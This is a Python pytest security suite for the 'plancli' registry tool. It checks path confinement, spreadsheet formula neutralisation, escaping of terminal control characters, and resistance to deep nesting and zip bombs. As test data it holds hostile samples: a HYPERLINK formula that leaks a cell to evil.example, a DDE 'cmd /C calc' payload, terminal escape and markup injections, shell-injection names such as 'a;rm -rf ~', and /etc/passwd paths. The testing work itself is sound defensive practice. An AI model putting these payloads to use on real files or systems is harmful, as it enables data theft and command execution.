"""Hostile input (issue 26, docs/security.md): a registry, ledger, workbook, CSV or typed text made to
read, run or leak something, or to crash plancli. Each class of attack has its tests; every file is
built here, small on disk, and the runs that could blow up (deep nesting, huge cells) run in a child
process under a memory limit and a timeout, so a regression fails the test instead of the machine.

What is checked, by class:

1. Confinement: what a registry names (``ledger:``, ``documents:``, ``source.file``, ``units_file``)
   resolves inside the repository after symlinks, or is refused by file:line before anything is
   opened (a FIFO outside would hang the run if it were) and without saying whether it exists.
2. Outputs carry data: no xlsx cell plancli writes is a formula; terminal, Markdown and HTML show
   control characters written out (``\\x1b``), never raw; rich never reads a note as markup.
3. What is written is checked: control characters refused by record and import; impossible
   document dates and recorded_at values that are not times caught; a read-only ledger refused to
   root too; a file that cannot be read counted as a file.
4. Bounded parsing: a CSV cell past the csv limit, JSON and YAML nested past reason, long evidence
   text, bad ledger lines named at their own line.

And throughout: no input gives exit 3 (an internal error) or a traceback.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from .conftest import ROOT, TINY_REGISTRY, Result

openpyxl = pytest.importorskip("openpyxl")

GOOD_LEDGER = ('records:\n  - {"rid": "r1", "id": "test-001", "status": "in_progress", "on": "2024-06-01", '
               '"recorded_at": "2024-06-01T09:00:00+08:00"}\n')
ESC = "\x1b"


def no_crash(r: Result) -> Result:
    """The promise every test here keeps: no internal error, no traceback."""
    assert r.code != 3, r.err
    assert "Traceback" not in r.err and "internal error" not in r.err, r.err
    return r


def one_error(r: Result) -> str:
    no_crash(r)
    assert r.code == 2, (r.code, r.out, r.err)
    lines = [ln for ln in r.err.splitlines() if ln.startswith("plancli: error: ")]
    assert len(lines) == 1, r.err
    return lines[0].removeprefix("plancli: error: ")


# The child that runs plancli is started by a small launcher, not by pytest itself: Linux carries a
# process's peak RSS across fork and exec (exec folds the old address space's high-water mark into
# ``ru_maxrss``), so a child forked straight from a pytest that has grown past 120 MB over the suite
# would report pytest's peak, not its own. The launcher is forked from pytest (its figure is
# pytest's), but the plancli it forks in turn starts from the launcher's few megabytes.
_LAUNCHER = """
import os, resource, sys
gib = 1 << 30
pid = os.fork()
if pid == 0:
    resource.setrlimit(resource.RLIMIT_AS, (2 * gib, 2 * gib))
    resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
    os.execv(sys.executable, [sys.executable, "-m", "plancli", *sys.argv[2:]])
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as f:
    f.write(f"{os.waitstatus_to_exitcode(status)} {usage.ru_maxrss}")
"""


@dataclass
class Run(Result):
    peak_mib: float = 0.0  # the plancli child's own peak resident memory (its os.wait4 rusage)


def bounded(*args: str, cwd: Path | None = None, timeout: float = 90) -> Run:
    """plancli in a child process, at most 2 GiB of address space and 60 s of CPU; a run that hangs
    (a FIFO opened, a parser looping) is killed at ``timeout`` and fails the test. The result
    carries the child's peak memory, read from its own rusage by the launcher that started it."""
    env = {**os.environ, "PLANCLI_LANG": "en", "NO_COLOR": "1", "PLANCLI_TODAY": "2024-10-20",
           "PYTHONPATH": str(ROOT)}
    env.pop("PLANCLI_REGISTRY", None)
    env.pop("PLANCLI_PROGRESS", None)
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err, \
            tempfile.TemporaryDirectory() as scratch:
        report = Path(scratch) / "child"
        p = subprocess.Popen([sys.executable, "-c", _LAUNCHER, str(report), *args], cwd=cwd, env=env,
                             stdout=out, stderr=err, start_new_session=True)
        try:
            p.wait(timeout)  # a kill switch for a hung child, not a measurement
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, 9)
            p.wait()
            pytest.fail(f"plancli {' '.join(args)[:200]} did not finish in {timeout:g} s")
        assert p.returncode == 0 and report.exists(), f"the launcher failed ({p.returncode})"
        code, maxrss = report.read_text().split()
        out.seek(0)
        err.seek(0)
        run = Run(int(code), out.read().decode("utf-8", "replace"), err.read().decode("utf-8", "replace"),
                  int(maxrss) / 1024)
    no_crash(run)
    return run


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A registry repository as ``plancli init --empty`` makes it, inside ``tmp_path/repo``."""
    from plancli.repository import init_repository

    root = tmp_path / "repo"
    init_repository(root, empty=True, git=False)
    return root


def run_in(cli, root: Path, *args: str) -> Result:
    """A command run from inside a repository (the way people use it: no --registry)."""
    old = Path.cwd()
    os.chdir(root)
    try:
        return no_crash(cli(*args))
    finally:
        os.chdir(old)


def set_key(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def line_of(path: Path, needle: str) -> int:
    return next(n for n, ln in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if needle in ln)


# --------------------------------------------------------------------------- 1. confinement

@pytest.mark.parametrize("ledger", ["../outside/x.yaml", "sub/../../outside/x.yaml", "{abs}", "~/x.yaml"],
                         ids=["dotdot", "dotdot-inside", "absolute", "home"])
def test_a_ledger_outside_the_repository_is_refused_and_nothing_is_written(ledger, repo, cli, tmp_path):
    outside = tmp_path / "outside"
    ledger = ledger.format(abs=outside / "x.yaml")
    set_key(repo / "registry.yaml", "ledger: progress.yaml", f"ledger: {ledger}")
    for args in (("record", "slzx-002", "--status", "in_progress", "--note", "x"), ("list",), ("validate",)):
        err = one_error(run_in(cli, repo, *args))
        assert err.startswith(f"{repo / 'registry.yaml'}:{line_of(repo / 'registry.yaml', 'ledger:')}: ledger ")
    assert not outside.exists()  # no directory made, no record written
    assert (repo / "progress.yaml").read_text(encoding="utf-8").count("slzx-002") == 0


def test_a_ledger_symlinked_out_of_the_repository_is_refused(repo, cli, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.yaml").write_text("records:\n", encoding="utf-8")
    (repo / "shared.yaml").symlink_to(outside / "x.yaml")
    set_key(repo / "registry.yaml", "ledger: progress.yaml", "ledger: shared.yaml")
    err = one_error(run_in(cli, repo, "record", "slzx-002", "--status", "in_progress"))
    assert "lies outside the repository" in err
    assert (outside / "x.yaml").read_text(encoding="utf-8") == "records:\n"


def test_a_ledger_inside_the_repository_still_works(repo, cli):
    set_key(repo / "registry.yaml", "ledger: progress.yaml", "ledger: ledgers/../progress.yaml")
    assert run_in(cli, repo, "record", "slzx-002", "--status", "in_progress").code == 0
    assert "slzx-002" in (repo / "progress.yaml").read_text(encoding="utf-8")


def _fifo(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)  # opening it to read would block: the child would be killed at its timeout
    return path


@pytest.mark.parametrize(("key", "old", "new"), [
    ("source.file", "source: {file: ../source/example.txt}", "source: {file: ../../outside/s.txt}"),
    ("units_file", "units_file: ../units.yaml", "units_file: ../../outside/s.txt"),
    ("ledger", "  units_file: ../units.yaml", "  units_file: ../units.yaml\n  ledger: ../../outside/s.txt"),
])
def test_a_document_naming_a_file_outside_is_refused_without_opening_it(key, old, new, repo, tmp_path):
    fifo = _fifo(tmp_path / "outside" / "s.txt")
    doc = repo / "documents" / "example.yaml"
    set_key(doc, old, new)
    for args in (("validate",), ("coverage",), ("list",)):
        r = bounded(*args, cwd=repo)
        assert r.code in (1, 2)
        assert f"{doc}:{line_of(doc, 'outside/s.txt')}: {key} '{new.split(': ')[-1].rstrip('}')}' lies outside " \
               f"the repository {repo.resolve()}" in r.err + r.out
    assert fifo.exists()


def test_a_document_loaded_alone_names_only_its_folder(tmp_path, write_registry):
    """Outside any repository or git work tree, a document's folder is all it may name."""
    _fifo(tmp_path.parent / f"{tmp_path.name}-secret.txt")
    reg = write_registry(TINY_REGISTRY.replace("source: {file: source.txt}",
                                               f"source: {{file: ../{tmp_path.name}-secret.txt}}"))
    want = f"{reg}:3: source.file '../{tmp_path.name}-secret.txt' lies outside the folder {tmp_path.resolve()}: "
    r = bounded("coverage", "--registry", str(reg))
    assert r.code == 2 and r.err.startswith("plancli: error: " + want)
    r = bounded("validate", str(reg))
    assert r.code == 1 and r.out.startswith(want)


@pytest.mark.parametrize("entry", ["../outside/doc.yaml", "{abs}", "documents/../../outside/doc.yaml"])
def test_a_document_list_entry_outside_is_refused_the_same_whether_or_not_it_exists(entry, repo, cli, tmp_path):
    outside = tmp_path / "outside"
    entry = entry.format(abs=outside / "doc.yaml")
    set_key(repo / "registry.yaml", "  - documents/example.yaml", f"  - {entry}")
    absent = one_error(run_in(cli, repo, "list"))
    outside.mkdir()
    shutil.copy(repo / "documents" / "example.yaml", outside / "doc.yaml")
    present = one_error(run_in(cli, repo, "list"))
    assert absent == present  # the refusal tells nothing about the file
    assert f"registry.yaml:{line_of(repo / 'registry.yaml', entry)}: documents " in present


def test_a_documents_folder_symlinked_outside_is_refused(repo, cli, tmp_path):
    shutil.move(repo / "documents", tmp_path / "elsewhere")
    (repo / "documents").symlink_to(tmp_path / "elsewhere")
    err = one_error(run_in(cli, repo, "list"))
    assert "documents 'documents/example.yaml' lies outside the repository" in err


def test_validate_lists_every_refused_path_and_reads_none(repo, tmp_path):
    _fifo(tmp_path / "outside" / "s.txt")
    doc = repo / "documents" / "example.yaml"
    set_key(doc, "source: {file: ../source/example.txt}", "source: {file: /etc/passwd}")
    set_key(doc, "units_file: ../units.yaml", "units_file: ../../outside/s.txt")
    r = bounded("validate", "--lang", "zh", cwd=repo)
    assert r.code == 1
    assert f"{doc}:{line_of(doc, '/etc/passwd')}: source.file 是绝对路径（/etc/passwd）" in r.out
    assert f"{doc}:{line_of(doc, 'outside/s.txt')}: units_file 指向登记库之外" in r.out


# --------------------------------------------------------------------------- 2. outputs carry data

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1,2)",
            "-2+3"]


def _formula_cells(path: Path) -> list[str]:
    """Every formula in a workbook, read from its XML (what Excel would run)."""
    out = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                out += re.findall(r"<f>(.*?)</f>", z.read(name).decode("utf-8"))
    return out


def _strings(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_no_xlsx_plancli_writes_holds_a_formula(tiny, write_registry, cli, tmp_path):
    """export, the per-unit 台账, the bulletin and the 考核: text from the registry and the ledger stays text."""
    metric = "metric: 高新技术企业数量\n    value_text: 3.5 万家"
    assert metric in TINY_REGISTRY and "lead: [省工业和信息化厅]" in TINY_REGISTRY
    hostile = (TINY_REGISTRY.replace(metric, f"metric: '{FORMULAS[0]}'\n    value_text: 3.5 万家")
               .replace("lead: [省工业和信息化厅]", "lead: ['=cmd|'' /C calc''!A0']"))
    reg = write_registry(hostile)
    ledger = tmp_path / "progress.yaml"
    for n, text in enumerate(FORMULAS):
        r = cli("record", "test-004", "--status", "in_progress", "--note", text, "--evidence", text,
                "--on", f"2024-10-{n + 10}", "--registry", str(reg), "--progress", str(ledger), "--new")
        assert r.code == 0, r.err
    common = ("--registry", str(reg), "--progress", str(ledger), "--as-of", "2024-12-05")
    books = [tmp_path / "export.xlsx", tmp_path / "bulletin.xlsx"]
    assert cli("export", "--format", "xlsx", "-o", str(books[0]), *common).code == 0
    assert cli("bulletin", "--month", "2024-11", "--format", "xlsx", "-o", str(books[1]), *common).code == 0
    assert cli("score", "--year", "2024", "--format", "xlsx", "-o", str(tmp_path / "score.xlsx"),
               "--registry", str(reg), "--progress", str(ledger)).code == 0
    assert cli("export", "--format", "xlsx", "--per-unit", "-o", str(tmp_path / "台账"), *common).code == 0
    books += [tmp_path / "score.xlsx", *sorted((tmp_path / "台账").glob("*.xlsx"))]
    assert len(books) == 5
    for book in books:
        assert _formula_cells(book) == [], book
    assert set(FORMULAS[-1:]) <= _strings(books[0])  # the last record decides: its note, as written
    assert FORMULAS[0] in _strings(books[0]) and "=cmd|' /C calc'!A0" in _strings(books[1])
    assert "=cmd|' /C calc'!A0" in _strings(books[2])  # the 考核 names the unit as written
    assert FORMULAS[0] in set().union(*(_strings(b) for b in books[3:]))
    cell = next(c for ws in openpyxl.load_workbook(books[0]) for row in ws.iter_rows() for c in row
                if c.value == FORMULAS[0])
    assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text when someone edits the cell


def test_csv_export_keeps_its_formula_guard(tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    assert cli("record", "test-004", "--status", "in_progress", "--note", FORMULAS[0], "--on", "2024-10-10",
               "--registry", str(tiny), "--progress", str(ledger), "--new").code == 0
    r = cli("export", "--format", "csv", "--registry", str(tiny), "--progress", str(ledger))
    assert r.code == 0 and "'" + FORMULAS[0].replace('"', '""') in r.out


# A ledger written by hand or by plancli 0.3.0, which took control characters in: what it holds must
# be shown, never obeyed, by every command that prints it.
TERMINAL_ATTACK = "a\x1b[2J\x1b]0;pwned\x07b\u202eevil [link=file:///etc/passwd]click[/link] [bold red]!![/]"


@pytest.fixture
def hostile_ledger(tmp_path: Path) -> Path:
    p = tmp_path / "progress.yaml"
    rec = {"rid": "r1", "id": "test-004", "status": "in_progress", "on": "2024-10-10",
           "note": TERMINAL_ATTACK, "evidence": "\x1b[31m佐证\x0b", "recorded_at": "2024-10-10T09:00:00+08:00"}
    p.write_text("records:\n  - " + json.dumps(rec, ensure_ascii=False) + "\n", encoding="utf-8")
    return p


@pytest.mark.parametrize("args", [
    ("show", "test-004", "--format", "plain"), ("show", "test-004", "--format", "table"),
    ("show", "test-004", "--format", "md"), ("weekly", "--format", "plain"), ("weekly", "--format", "md"),
    ("weekly", "--format", "html"), ("list", "--format", "plain"), ("list", "--format", "table"),
    ("report", "--format", "html"), ("report", "--format", "md"),
], ids=lambda a: "-".join(a))
def test_terminal_markdown_and_html_show_control_characters_written_out(args, tiny, hostile_ledger, cli):
    r = no_crash(cli(*args, "--registry", str(tiny), "--progress", str(hostile_ledger), "--as-of", "2024-10-20"))
    assert r.code == 0, r.err
    for stream in (r.out, r.err):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", stream), stream[:300]
    if args[0] in ("show", "weekly"):
        assert "\\x1b[2J\\x1b]0;pwned\\x07b\\u202eevil" in r.out  # seen, not obeyed
    if args[0] == "show":  # rich printed the markup as text, not as a hyperlink
        assert "[link=file:///etc/passwd]click[/link]" in re.sub(r"\s+", "", r.out)


def test_rich_reads_no_markup_from_a_note(tiny, hostile_ledger, cli, monkeypatch):
    """On a colour terminal rich would turn [link=…] into a hidden hyperlink (OSC 8): it gets Text."""
    from rich.console import Console

    from plancli.output.render import Column, render

    monkeypatch.delenv("NO_COLOR", raising=False)
    import io

    out = io.StringIO()
    out.isatty = lambda: True  # type: ignore[method-assign]
    monkeypatch.setattr(Console, "is_terminal", property(lambda self: True))
    render([{"note": TERMINAL_ATTACK}], [Column("note", "note", None, "fold")], "table", out)
    text = out.getvalue()
    assert "\x1b]8;" not in text and "\x1b]0;" not in text and "\x1b[2J" not in text
    assert "[link=file:///etc/passwd]" in text.replace("\n", "")


def test_a_control_character_already_in_the_ledger_no_longer_breaks_xlsx(tiny, hostile_ledger, cli, tmp_path):
    out = tmp_path / "x.xlsx"
    r = cli("export", "--format", "xlsx", "-o", str(out), "--registry", str(tiny), "--progress", str(hostile_ledger))
    assert r.code == 0, r.err
    assert "\\x1b[31m佐证\\x0b" in _strings(out)


# --------------------------------------------------------------------------- 3. what is written

@pytest.mark.parametrize("option", ["--note", "--source", "--evidence", "--actual"])
@pytest.mark.parametrize("char", ["\x1b", "\x00", "\x07", "\x0b", "\x7f", "\x85", "\u2028", "\u202e"],
                         ids=["esc", "nul", "bel", "vt", "del", "nel", "line-sep", "rlo"])
def test_record_refuses_control_characters_in_every_text(option, char, tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    value = f"3{char}6万家" if option == "--actual" else f"ab{char}cd"
    args = ["--status", "in_progress"] if option != "--actual" else ["--status", "in_progress"]
    item = "test-001"
    err = one_error(cli("record", item, *args, option, value, "--registry", str(tiny), "--progress", str(ledger)))
    assert err == (f"{option} holds the control character U+{ord(char):04X} (character {value.index(char) + 1}); "
                   "remove it and try again")
    assert ledger.read_text(encoding="utf-8") == GOOD_LEDGER


@pytest.mark.parametrize("flag", [("--retract",), ("--extend-to", "2025-06-30")])
def test_retractions_and_extensions_refuse_them_too(flag, tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    err = one_error(cli("record", "test-001", *flag, "--note", "why\x1b[2J", "--registry", str(tiny),
                        "--progress", str(ledger)))
    assert "--note holds the control character U+001B" in err
    assert ledger.read_text(encoding="utf-8") == GOOD_LEDGER


def test_line_ends_are_kept_as_line_feeds(tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    assert cli("record", "test-001", "--status", "in_progress", "--note", "一\r\n二\r三\t四", "--registry", str(tiny),
               "--progress", str(ledger), "--new").code == 0
    from plancli.ledger.storage import load_ledger

    assert load_ledger(ledger)[0].note == "一\n二\n三\t四"


def _csv(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig") -> Path:
    import csv
    import io

    buf = io.StringIO()
    csv.writer(buf).writerows([["编号", "完成情况", "进展情况", "佐证材料", "存在问题", "数据截至日期"], *rows])
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def test_import_refuses_control_characters_by_row_and_column(tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    sheet = _csv(tmp_path / "省科技厅.csv", [["test-001", "进行中", "推进\x1b[31m中", "", "", "2024-10-01"],
                                          ["test-004", "已完成", "", "报告\x07", "", "2024-10-01"],
                                          ["test-002", "进行中", "好", "", "无\u2029有", "2024-10-01"]])
    r = no_crash(cli("import", str(sheet), "--registry", str(tiny), "--progress", str(ledger), "--lang", "zh"))
    assert r.code == 2
    assert r.err.splitlines() == [
        f"plancli: {sheet}:2: 进展情况含控制字符 U+001B（第 3 个字符）；请删去后重新填报",
        f"plancli: {sheet}:3: 佐证材料含控制字符 U+0007（第 3 个字符）；请删去后重新填报",
        f"plancli: {sheet}:4: 存在问题含控制字符 U+2029（第 2 个字符）；请删去后重新填报",
        "plancli: error: 3 行无法记录，未导入任何数据"]
    assert ledger.read_text(encoding="utf-8") == GOOD_LEDGER


def test_import_takes_a_windows_line_end_inside_a_cell(tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    sheet = _csv(tmp_path / "省科技厅.csv", [["test-001", "进行中", "第一行\r\n第二行", "", "", "2024-10-01"]])
    r = cli("import", str(sheet), "--registry", str(tiny), "--progress", str(ledger), "--new")
    assert r.code == 0, r.err
    from plancli.ledger.storage import load_ledger

    assert load_ledger(ledger)[0].note == "第一行\n第二行"


def test_a_file_that_cannot_be_read_is_the_files_problem_not_a_rows(tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    good = _csv(tmp_path / "省科技厅.csv", [["test-001", "进行中", "推进", "", "", "2024-10-01"]])
    err = one_error(cli("import", str(broken), "--registry", str(tiny), "--progress", str(ledger)))
    assert err == "1 file(s) cannot be read as a 台账; nothing was imported"
    bad_row = _csv(tmp_path / "省科技厅-2.csv", [["test-001", "大概", "推进", "", "", "2024-10-01"]])
    err = one_error(cli("import", str(broken), str(bad_row), str(good), "--registry", str(tiny),
                        "--progress", str(ledger)))
    assert err.startswith("1 file(s) cannot be read as a 台账 and 1 rows cannot be recorded")


@pytest.mark.parametrize(("date", "why"), [("2024-02-30", "impossible date '2024-02-30'"),
                                           ("someday", "not a date: 'someday'")])
def test_an_impossible_document_date_is_refused_at_its_line(date, why, write_registry, cli):
    reg = write_registry(TINY_REGISTRY.replace("meta:\n", f"meta:\n  document: {{code: t, date: '{date}'}}\n", 1))
    err = one_error(cli("list", "--registry", str(reg)))
    assert err.startswith(f"{reg}:2: document date: ") and why in err
    v = no_crash(cli("validate", "--strict", str(reg)))
    assert v.code == 1 and f"{reg}:2: document date: " in v.out


def test_a_recorded_at_that_is_not_a_time_fails_validate_strict(tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER + '  - {"rid": "r2", "id": "test-001", "status": "in_progress", "on": "2024-07-01", '
                      '"recorded_at": "last Tuesday"}\n', encoding="utf-8")
    r = no_crash(cli("validate", "--strict", str(tiny), "--progress", str(ledger)))
    assert r.code == 1
    assert (f"{ledger}:3: warning: record test-001: recorded_at 'last Tuesday' is not a time (write it as "
            "2024-10-31T09:30:00+08:00)") in r.out


def test_a_read_only_ledger_is_refused_whoever_runs_plancli(tiny, cli, tmp_path):
    """chmod 444 is someone's decision; os.access says root may write anyway, the mode bits say no."""
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    ledger.chmod(0o444)
    try:
        err = one_error(cli("record", "test-001", "--status", "done", "--registry", str(tiny), "--progress",
                            str(ledger)))
        assert err == f"{ledger}: ledger is read-only; nothing was recorded (to record, make it writable again: chmod u+w)"
        sheet = _csv(tmp_path / "省科技厅.csv", [["test-004", "已完成", "", "", "", "2024-10-01"]])
        one_error(cli("import", str(sheet), "--registry", str(tiny), "--progress", str(ledger)))
        assert ledger.read_text(encoding="utf-8") == GOOD_LEDGER
    finally:
        ledger.chmod(0o644)


@pytest.mark.parametrize("name", ["my repo", "it's here", "a;rm -rf ~", "$(touch pwned)"])
def test_init_prints_a_next_step_that_pastes_as_one_command(name, cli, tmp_path):
    root = tmp_path / name
    r = cli("init", str(root), "--empty")
    assert r.code == 0, r.err
    hint = next(ln for ln in r.out.splitlines() + r.err.splitlines() if ln.startswith("next: "))
    words = shlex.split(hint.removeprefix("next: "))
    assert words[:2] == ["cd", str(root)] and words[2] == "&&"


# --------------------------------------------------------------------------- 4. bounded parsing

def test_a_csv_cell_past_the_csv_limit_is_refused_at_its_line(tiny, tmp_path):
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    sheet = _csv(tmp_path / "省科技厅.csv", [["test-001", "进行中", "短", "", "", "2024-10-01"],
                                          ["test-004", "进行中", "长" * 140_000, "", "", "2024-10-01"]])
    r = bounded("import", str(sheet), "--registry", str(tiny), "--progress", str(ledger))
    assert r.code == 2
    assert f"plancli: {sheet}: CSV line 3 cannot be read (an unclosed quote, or a cell longer than" in r.err
    assert "1 file(s) cannot be read" in r.err


def test_a_ledger_line_nested_a_hundred_thousand_deep_is_refused_at_its_line(tiny, tmp_path):
    ledger = tmp_path / "progress.yaml"
    deep = '  - {"rid": "r9", "id": "test-001", "status": "met", "note": ' + "[" * 100_000 + "]" * 100_000 + "}\n"
    ledger.write_text(GOOD_LEDGER + deep, encoding="utf-8")
    for args in (("list",), ("validate", str(tiny)), ("record", "test-004", "--status", "done")):
        r = bounded(*args, "--registry", str(tiny), "--progress", str(ledger)) if args[0] != "validate" else \
            bounded(*args, "--progress", str(ledger))
        assert r.code in (1, 2)
        assert f"{ledger}:3: record nested too deeply to read" in r.err + r.out


def _nest(style: str, depth: int) -> str:
    if style == "flow":
        return "x: " + "{a: " * depth + "1" + "}" * depth + "\n"
    if style == "sequences":
        return "x: " + "[" * depth + "]" * depth + "\n"
    return "x:\n" + "".join(" " * i + "k:\n" for i in range(1, depth)) + " " * depth + "k: 1\n"


@pytest.mark.parametrize(("style", "depth"), [("flow", 150), ("flow", 400), ("flow", 20_000), ("sequences", 150),
                                              ("sequences", 20_000), ("block", 150), ("block", 1500)])
@pytest.mark.parametrize("where", ["index", "document", "units"])
def test_absurd_yaml_nesting_is_refused_at_its_line(style, depth, where, repo):
    target = {"index": repo / "registry.yaml", "document": repo / "documents" / "example.yaml",
              "units": repo / "documents" / ".." / "units.yaml"}[where]  # as the document names it
    head = target.read_text(encoding="utf-8")
    target.write_text(head + _nest(style, depth), encoding="utf-8")
    r = bounded("list", cwd=repo)
    assert r.code == 2
    lines = r.err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"plancli: error: {target}:")
    # ours past 100 levels; libyaml's own limit may speak first on a flow collection 20 000 deep
    assert lines[0].endswith(("YAML nested deeper than 100 levels is not read",
                              "invalid YAML: exceeded maximum nesting depth"))
    at = int(lines[0].removeprefix(f"plancli: error: {target}:").split(":")[0])
    assert head.count("\n") < at <= head.count("\n") + depth + 1


def test_long_evidence_text_is_text_not_a_file_name_error(tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    text = "已按要求完成平台迭代更新并通过验收" * 5 + "附件见省大数据局门户网站公示栏目" * 2  # 87+ characters
    assert len(text.encode()) > 255
    r = cli("record", "test-004", "--status", "done", "--evidence", text, "--registry", str(tiny), "--progress",
            str(ledger), "--new")
    assert r.code == 0, r.err
    from plancli.ledger.storage import load_ledger

    assert load_ledger(ledger)[0].evidence == text


@pytest.mark.parametrize(("bad", "line"), [
    ('  - {"rid": "x", "id": "test-001", "status": "met"\n', 3),  # left open: named here, not a line later
    ('  - {"rid": "x", "id": "test-001", "status": "met"\n\n# later\n  - {"rid": "y", "id": "test-001", '
     '"status": "met"}\n', 3),
    ("  - just text\n", 3),
    ("  - [1, 2]\n", 3),
    ("recrods:\n  - {id: test-001, status: met}\n", 3),  # a misspelt key: its records would vanish
    ('  - {"rid": "x", "id": "test-001", "status": "met", "actual": NaN}\n', 3),
    ('  - {"rid": "x", "id": "test-001", "status": "met", "actual": 1e999}\n', 3),
    ('  - {"rid": "x", "id": "test-001", "status": "bogus"}\n', 3),
], ids=["open", "open-then-more", "scalar", "list", "misspelt-key", "nan", "infinite", "status"])
def test_a_bad_ledger_line_is_named_at_its_own_line(bad, line, tiny, cli, tmp_path):
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER + bad, encoding="utf-8")
    err = one_error(cli("list", "--registry", str(tiny), "--progress", str(ledger)))
    assert err.startswith(f"{ledger}:{line}: "), err


def test_a_stored_line_separator_cannot_split_a_record(tiny, cli, tmp_path):
    """U+2028 is a line break to Python's splitlines, not to JSON: written escaped, it stays one line."""
    from plancli.ledger.record import Record, record_line

    line = record_line(Record("test-001", "in_progress", note="一\u2028二\x85三\u2029"))
    assert len(line.splitlines()) == 1 and json.loads(line.strip()[2:])["note"] == "一\u2028二\x85三\u2029"


# --------------------------------------------------------------------------- no absolute path leaks

def test_no_report_carries_a_local_path(repo, cli, tmp_path):
    assert run_in(cli, repo, "record", "slzx-002", "--status", "in_progress", "--note", "推进中").code == 0
    outs = tmp_path / "outs"
    outs.mkdir()
    for args in (("report", "-o", str(outs / "r.html")), ("weekly", "--format", "html"), ("weekly", "--format", "md"),
                 ("bulletin", "--month", "2025-01", "--format", "html", "-o", str(outs / "b.html")),
                 ("bulletin", "--month", "2025-01", "--format", "xlsx", "-o", str(outs / "b.xlsx")),
                 ("export", "--format", "xlsx", "-o", str(outs / "e.xlsx")),
                 ("export", "--format", "json", "-o", str(outs / "e.json")),
                 ("export", "--format", "ics", "-o", str(outs / "e.ics"))):
        r = run_in(cli, repo, *args, "--as-of", "2025-01-10")
        assert r.code == 0, r.err
        assert str(tmp_path) not in r.out
    for f in outs.iterdir():
        blob = b"".join(zipfile.ZipFile(f).read(n) for n in zipfile.ZipFile(f).namelist()) \
            if f.suffix == ".xlsx" else f.read_bytes()
        assert str(tmp_path).encode() not in blob, f


# --------------------------------------------------------------------------- 5. workbooks (issue 25)
# Bombs and hostile XML in the parts of a workbook, built here, run with the default limits in a child
# process whose own peak memory is read back: the reader streams, it never holds what a bomb unpacks to.

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_HEAD = ('<row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c>'
         '<c r="B1" t="inlineStr"><is><t>完成情况</t></is></c></row>')


def _xlsx(path: Path, parts: dict[str, object]) -> Path:
    """A workbook openpyxl writes, with ``parts`` replaced: bytes, or an iterable of byte chunks
    streamed into the zip (so a part that unpacks to gigabytes never exists whole, here either)."""
    base = path.with_suffix(".base.xlsx")
    wb = openpyxl.Workbook()
    wb.active.title = "台账"
    wb.save(base)
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        for item in zin.infolist():
            body = parts.get(item.filename, zin.read(item.filename))
            if isinstance(body, bytes):
                zout.writestr(item, body)
                continue
            info = zipfile.ZipInfo(item.filename)
            info.compress_type = zipfile.ZIP_DEFLATED
            with zout.open(info, "w", force_zip64=True) as fh:
                for chunk in body:
                    fh.write(chunk)
    base.unlink()
    return path


def _rows(n_mb: int):
    """Sheet XML of empty rows, ``n_mb`` megabytes unpacked (a few hundred kilobytes packed)."""
    yield f'<worksheet {_NS}><sheetData>{_HEAD}'.encode()
    block = b"<row/>" * 100_000  # 600 kB
    for _ in range(n_mb * 1024 * 1024 // len(block)):
        yield block
    yield b"</sheetData></worksheet>"


def _import_bounded(tiny: Path, book: Path, ledger: Path) -> Run:
    return bounded("import", str(book), "--registry", str(tiny), "--progress", str(ledger), "--new")


def test_a_zip_bomb_is_refused_at_the_unpacked_limit_in_bounded_memory(tiny, tmp_path):
    book = _xlsx(tmp_path / "省科技厅.xlsx", {"xl/worksheets/sheet1.xml": _rows(160)})
    assert book.stat().st_size < 1_000_000  # under a megabyte on disk, 160 MB unpacked
    r = _import_bounded(tiny, book, tmp_path / "progress.yaml")
    assert r.code == 2
